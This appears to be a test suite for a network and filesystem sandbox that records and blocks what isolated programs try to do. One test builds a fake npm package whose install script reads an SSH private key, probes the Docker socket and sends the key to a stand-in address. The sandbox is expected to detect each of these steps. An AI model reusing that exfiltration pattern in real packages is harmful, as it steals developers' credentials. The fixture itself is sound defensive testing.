import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, readlink, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { tmpdir } from 'node:os';
import { findProgram, runProcess, runtimeEnvironment } from '#system';
import { HOME } from './surroundings.ts';
import { type Attempt, describeAttempt, type Enclave, openEnclave, probeFrom, readBeneath } from './index.ts';
import { namespacesHere } from '#system/testing';

// On a machine that lacks them they are unpacked into the cache first, as a rehearsal does.
const { skip, tools } = await namespacesHere();
const env = { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', ...runtimeEnvironment(process.env) };

let enclave: Enclave;
let work = '';
let host = '';
const attempts: Attempt[] = [];
const options = () => ({ cwd: work, env });
const shell = (machine: string, script: string) => enclave.run(machine, '/bin/sh', ['-c', script], options());
const tried = async (wanted: Partial<Attempt>): Promise<Attempt | undefined> =>
  (await enclave.attempts()).find((one) =>
    Object.entries(wanted).every(([key, value]) => one[key as keyof Attempt] === value),
  );

/** What of the network of the host a careful owner would compare. */
async function hostState(): Promise<string> {
  const commands = [
    [tools.ip, ['-details', 'link']],
    [tools.ip, ['route', 'show', 'table', 'all']],
    [tools.ip, ['-6', 'route', 'show', 'table', 'all']],
    [tools.ip, ['netns']],
    [tools.nft, ['list', 'ruleset']],
  ] as const;
  const out = await Promise.all(commands.map(([command, args]) => runProcess(command, args, { env })));
  const mountinfo = await readFile('/proc/self/mountinfo', 'utf8');
  // Others on this machine may mount things meanwhile; ours would be of these kinds.
  const mounts = mountinfo
    .split('\n')
    .filter((line) => /netns|sallyport.*enclave/.test(line))
    .join('\n');
  const forwarding = await readFile('/proc/sys/net/ipv4/ip_forward', 'utf8');
  // Lifetimes of router advertisements count down by themselves.
  return [...out.map(({ stdout }) => stdout.replace(/expires \d+sec/g, '')), mounts, forwarding].join('\n---\n');
}

/** Processes that are in another network namespace than ours and name our folder. */
async function leftovers(folder: string): Promise<string[]> {
  const own = await readlink('/proc/self/ns/net');
  const found: string[] = [];
  for (const pid of await readdir('/proc')) {
    if (!/^\d+$/.test(pid)) continue;
    const space = await readlink(`/proc/${pid}/ns/net`).catch(() => own);
    const words = await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '');
    const cwd = await readlink(`/proc/${pid}/cwd`).catch(() => '');
    if (space !== own && (words.includes(folder) || cwd.startsWith(folder))) found.push(`${pid} ${words}`);
  }
  return found;
}

// A suite of its own: hooks of the file would keep the enclave up while all other files are tested.
describe('an enclave', { skip }, () => {
  before(async () => {
    if (skip !== false) return;
    host = await hostState();
    work = await mkdtemp(join(tmpdir(), 'sallyport enclave '));
    enclave = await openEnclave({
      machines: ['web', 'api', 'user'],
      flows: [{ from: 'user', to: 'web', port: 8080, protocol: 'tcp' }],
      writable: [work],
      env: process.env,
      tools,
      signal: new AbortController().signal,
      onAttempt: (attempt) => attempts.push(attempt),
    });
    const serve = `require('node:http').createServer((q, s) => s.end('hello ' + q.url)).listen(8080)`;
    const web = await enclave.start('web', process.execPath, ['-e', serve], options());
    assert.equal(await web.listening(8080, 10_000), true);
  });
  after(async () => {
    if (skip !== false) return;
    await enclave.close();
    await rm(work, { recursive: true, force: true });
  });

  test('a declared flow is open, and an undeclared one is refused and named', { skip }, async () => {
    const open = await probeFrom(
      enclave,
      'user',
      { probe: 'http', url: 'http://web:8080/orders', timeout: 5000 },
      options(),
    );
    assert.deepEqual([open.status, open.text], [200, 'hello /orders']);
    const shut = await probeFrom(
      enclave,
      'api',
      { probe: 'connect', host: 'web', port: 8080, timeout: 5000 },
      options(),
    );
    assert.equal(shut.ok, false);
    const seen = await tried({ kind: 'edge', from: 'api', to: 'web', port: 8080, protocol: 'tcp' });
    assert.notEqual(seen, undefined);
    // Neighbours of what is declared: another port of the same machine, and the way back.
    const port = await probeFrom(
      enclave,
      'user',
      { probe: 'connect', host: 'web', port: 8081, timeout: 5000 },
      options(),
    );
    const back = await probeFrom(
      enclave,
      'web',
      { probe: 'connect', host: 'user', port: 8080, timeout: 5000 },
      options(),
    );
    assert.deepEqual([port.ok, back.ok], [false, false]);
  });

  test('a call by name is recorded with its name, port and TLS server name', { skip }, async () => {
    const url = 'https://registry.example.test:8443/x';
    const call = await probeFrom(enclave, 'api', { probe: 'http', url, timeout: 5000 }, options());
    assert.equal(call.ok, false);
    const name = 'registry.example.test';
    assert.notEqual(await tried({ kind: 'name', from: 'api', name, protocol: 'dns' }), undefined);
    const seen = await tried({ kind: 'call', from: 'api', name, port: 8443, protocol: 'tcp', serverName: name });
    assert.equal(seen?.speaks, 'tls');
    assert.match(seen?.firstBytes ?? '', /^16030/);
  });

  test('calls to addresses, TCP of both families and UDP, are recorded with what was said', { skip }, async () => {
    const text = 'a datagram';
    await Promise.all([
      probeFrom(enclave, 'api', { probe: 'http', url: 'http://203.0.113.9:81/path', timeout: 5000 }, options()),
      probeFrom(enclave, 'api', { probe: 'http', url: 'http://[2001:db8::9]:82/', timeout: 5000 }, options()),
      probeFrom(enclave, 'api', { probe: 'datagram', host: '203.0.113.9', port: 123, text }, options()),
    ]);
    const http = await tried({ kind: 'call', from: 'api', address: '203.0.113.9', port: 81, speaks: 'http' });
    assert.equal(http?.request, 'GET 203.0.113.9:81/path');
    if (enclave.ipv6) assert.notEqual(await tried({ address: '2001:db8::9', port: 82, protocol: 'tcp' }), undefined);
    const udp = await tried({ kind: 'call', address: '203.0.113.9', port: 123, protocol: 'udp' });
    if (udp?.firstBytes !== undefined) assert.equal(Buffer.from(udp.firstBytes, 'hex').toString(), text);
    assert.notEqual(udp, undefined);
  });

  test("the host's loopback, files, sockets, environment and rights are out of reach", { skip }, async () => {
    const server = createServer((_, response) => response.end('host'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const probe = { probe: 'connect', host: '127.0.0.1', port, timeout: 2000 } as const;
      assert.equal((await probeFrom(enclave, 'api', probe, options())).ok, false);
    } finally {
      server.close();
    }
    const { stdout } = await shell(
      'api',
      `touch /etc/x /usr/x 2>/dev/null && echo wrote; mount -t tmpfs x /mnt 2>/dev/null && echo mounted; ip link set eth0 down 2>/dev/null && echo unplugged; id -u; env | sort | cut -d= -f1 | tr '\\n' ' '; ls -A "$HOME" | tr '\\n' ' '; ls /proc | grep -c '^[0-9]'`,
    );
    assert.match(
      stdout,
      /^(?:1000|0)\nHOME (LD_LIBRARY_PATH )?PATH PWD (SALLYPORT_LIBRARIES )?TMPDIR (?:\.aws \.docker \.kube \.npmrc \.ssh )\d\n$/,
    );
  });

  test(
    'who looks for keys and sockets of the host finds decoys, and is named with the package',
    { skip },
    async (t) => {
      if (enclave.unwatched !== '') return t.skip(`nobody is named: ${enclave.unwatched}`);
      const folder = join(work, 'node_modules', '@scope', 'thief');
      await mkdir(folder, { recursive: true });
      await writeFile(join(folder, 'package.json'), '{"name":"@scope/thief","version":"6.6.6"}');
      const script = `
      const { readFileSync, writeFileSync } = require('node:fs');
      const { connect } = require('node:net');
      const { homedir } = require('node:os');
      const quiet = (deed) => { try { return deed(); } catch { return ''; } };
      const key = quiet(() => readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8'));
      quiet(() => writeFileSync('/usr/local/bin/left-behind', 'x'));
      for (const path of ['/var/run/docker.sock', '\\0abstract', '/run/nobody.sock']) connect(path).on('error', () => {});
      const call = connect(4000, '203.0.113.77', () => call.end(Buffer.from(key).toString('base64')));
      call.on('error', () => {});`;
      await writeFile(join(folder, 'install.js'), script);
      await enclave.run('api', process.execPath, [join(folder, 'install.js')], { ...options(), cwd: folder });
      const by = { from: 'api', package: '@scope/thief@6.6.6' };
      assert.notEqual(
        await tried({ ...by, kind: 'read', path: `${HOME}/.ssh/id_ed25519`, answer: 'decoy' }),
        undefined,
      );
      assert.notEqual(await tried({ ...by, kind: 'write', path: '/usr/local/bin/left-behind' }), undefined);
      assert.notEqual(await tried({ ...by, kind: 'socket', path: '/run/docker.sock', answer: 'decoy' }), undefined);
      assert.notEqual(await tried({ ...by, kind: 'socket', path: '@abstract' }), undefined);
      assert.notEqual(await tried({ ...by, kind: 'socket', path: '/run/nobody.sock' }), undefined);
      const call = await tried({ ...by, kind: 'call', address: '203.0.113.77', port: 4000 });
      assert.match(call?.process?.command ?? '', /install\.js$/);
      assert.equal(call?.leaks, `${HOME}/.ssh/id_ed25519`);
      assert.ok((call?.stalledMs ?? -1) >= 0);
      assert.equal(describeAttempt(call as Attempt).startsWith('api (@scope/thief@6.6.6: '), true);
    },
  );

  test('what is not declared is not there, and what is only readable cannot be written', { skip }, async () => {
    const [shown, own, other] = await Promise.all(
      ['shown-', 'own-', 'other-'].map((name) => mkdtemp(join(work, name))),
    );
    assert.ok(shown !== undefined && own !== undefined && other !== undefined);
    for (const folder of [shown, own, other]) await writeFile(join(folder, 'file'), 'yes ');
    const script = `cat "$0/file" file; cat "$1/file" 2>/dev/null; ls "$1" / "$HOME/.." 2>/dev/null | tr '\\n' ' '
      echo no > "$0/file"; mkdir "$0/x"; echo written > file`;
    const ended = await enclave.run('api', '/bin/sh', ['-c', script, shown, other], {
      ...options(),
      cwd: own,
      readable: [shown],
      writable: [own],
    });
    const top = work.split('/')[1] ?? '';
    assert.match(ended.stdout, new RegExp(`^yes yes [^a-z]*/: .*\\b${top}\\b.*${HOME}/\\.\\.: user `));
    assert.match(ended.stderr, /Read-only file system.*Read-only file system/s);
    const read = (folder: string): Promise<string> => readFile(join(folder, 'file'), 'utf8');
    assert.deepEqual(await Promise.all([shown, own, other].map(read)), ['yes ', 'written\n', 'yes ']);
  });

  test(
    'a link where programs may write leads nowhere, nor does a folder that is closed to them',
    { skip },
    async () => {
      const [own, outside] = [await mkdtemp(join(work, 'own-')), await mkdtemp(join(tmpdir(), 'sallyport outside '))];
      try {
        await writeFile(join(outside, 'file'), 'secret');
        const swap = ['-c', 'ln -s "$0" folder; ln -s "$0/file" file; mkdir real; mkfifo pipe', outside];
        await enclave.run('api', '/bin/sh', swap, { ...options(), cwd: own, writable: [own] });
        for (const name of ['folder', 'file', 'folder/file', 'real/../folder']) {
          for (const shown of [{ readable: [`${own}/${name}`], writable: [] }, { writable: [`${own}/${name}`] }]) {
            const ended = await enclave.run('api', '/bin/cat', [`${own}/${name}`], {
              ...options(),
              cwd: '/',
              ...shown,
            });
            assert.deepEqual([ended.stdout, ended.code], ['', 127], ended.stderr);
          }
        }
        // What was shown once, and is another one now.
        await rm(join(own, 'real'), { recursive: true });
        for (const word of ['first', 'second']) {
          await mkdir(join(own, 'real'));
          await writeFile(join(own, 'real', 'file'), word);
          const shown = { readable: [join(own, 'real')], writable: [] };
          const ended = await enclave.run('api', '/bin/cat', [join(own, 'real', 'file')], {
            ...options(),
            cwd: '/',
            ...shown,
          });
          assert.equal(ended.stdout, word, ended.stderr);
          await rm(join(own, 'real'), { recursive: true });
        }
        await assert.rejects(readBeneath(own, join(own, 'folder', 'file'), 100));
        await assert.rejects(readBeneath(own, join(own, 'file'), 100));
        await assert.rejects(readBeneath(own, join(own, 'pipe'), 100));
        const beyond = await enclave.run('api', '/bin/true', [], { ...options(), cwd: '/', writable: [outside] });
        assert.match(beyond.stderr, /lies in no folder that programs may write to/);
        // Only root's programs run as somebody else.
        const closed = await enclave.run('api', '/bin/cat', [join(outside, 'file')], {
          ...options(),
          cwd: '/',
          readable: [outside],
          writable: [],
        });
        if (process.getuid?.() === 0) assert.match(closed.stderr, /closed to other users/);
        else assert.equal(closed.stdout, 'secret');
        assert.deepEqual(await readdir(outside), ['file']);
      } finally {
        await rm(outside, { recursive: true });
      }
    },
  );

  test('stopping a program ends what it started, and a time limit is kept', { skip }, async () => {
    const script = `(setsid sleep 300 &) ; trap '' TERM; while :; do sleep 1; done`;
    const running = await enclave.start('api', '/bin/sh', ['-c', script], { ...options(), timeout: 200 });
    const ended = await running.ended;
    assert.equal(ended.timedOut, true);
    assert.deepEqual(
      (await leftovers(work)).filter((words) => words.includes('sleep')),
      [],
    );
  });

  test('the host is as it was, also after the product is killed', { skip }, async () => {
    assert.equal(await hostState(), host);
    const folder = await mkdtemp(join(tmpdir(), 'sallyport-killed-'));
    const program = `
    import { openEnclave } from ${JSON.stringify(new URL('./index.ts', import.meta.url).href)};
    const enclave = await openEnclave({ machines: ['a', 'b'], flows: [], writable: [${JSON.stringify(folder)}],
      env: process.env, tools: ${JSON.stringify(tools)}, signal: new AbortController().signal });
    await enclave.start('a', '/bin/sh', ['-c', 'sleep 300; :', ${JSON.stringify(folder)}], { cwd: ${JSON.stringify(folder)}, env: { PATH: '/bin' } });
    console.log('up');`;
    const child = spawn(process.execPath, ['--input-type=module', '-e', program], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const wait = async (there: boolean): Promise<string[]> => {
      const end = Date.now() + 5000;
      for (;;) {
        const found = await leftovers(folder);
        if (found.length > 0 === there || Date.now() > end) return found;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    try {
      await new Promise((resolve) => child.stdout.once('data', resolve));
      assert.notDeepEqual(await wait(true), []);
    } finally {
      child.kill('SIGKILL');
    }
    assert.deepEqual(await wait(false), []);
    assert.equal(await hostState(), host);
    await rm(folder, { recursive: true });
  });

  test('the tools that are needed are found', { skip }, async () => {
    for (const name of ['unshare', 'nsenter']) assert.notEqual(await findProgram(name, process.env), undefined);
  });
});
